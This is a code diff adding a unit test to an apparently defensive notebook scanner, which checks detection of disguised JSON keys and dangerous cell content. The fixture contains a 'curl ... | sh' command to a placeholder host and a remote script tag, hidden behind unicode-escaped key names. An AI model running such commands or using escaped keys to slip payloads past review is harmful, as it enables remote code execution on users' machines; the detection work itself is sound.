@@ -54,6 +54,25 @@ const std::string good = R"({"cells": [
 
 } // namespace
 
+// "s\\u006furce" is "source" for every program that opens the file.
+CUPEL_TEST(keysInEscapesAreReadAsProgramsReadThem)
+{
+    const std::string file =
+        R"x({"cells": [{"cell_type": "code", "execution_count": 1, "metadata": {}, "s\u006furce": "import os\nos.system('curl -s https://a.example/x | sh')", )x"
+        R"("\u006futputs": [{"output_type": "display_data", "metadata": {}, "d\u0061ta": {"text\/html": "<script src='https://a.example/x.js'></script>"}}]}], )"
+        R"("metadata": {}, "nbformat": 4, "nbformat_minor": 4})";
+    const auto analysis = analyzeText(file);
+    CHECK(hasRule(analysis, "CUP-CODE-CURL-PIPE-SHELL"));
+    CHECK(hasRule(analysis, "CUP-OUT-REMOTE-SCRIPT"));
+    CHECK(hasRule(analysis, "CUP-NB-DISGUISED-KEY"));
+    const auto notebook = formats::notebookFacts(analysis.facts);
+    REQUIRE(notebook && notebook->cells.size() == 1 && notebook->cells[0].outputs.size() == 1);
+    // Letters that have to be escaped in ASCII, and slashes, are nothing to tell.
+    CHECK(!hasRule(
+        analyzeText(R"({"cells": [], "metadata": {"caf\u00e9": 1, "a\/b": 2}, "nbformat": 4, "nbformat_minor": 4})"),
+        "CUP-NB-DISGUISED-KEY"));
+}
+
 CUPEL_TEST(cellsOutputsAndRegions)
 {
     const auto analysis = analyzeText(good);
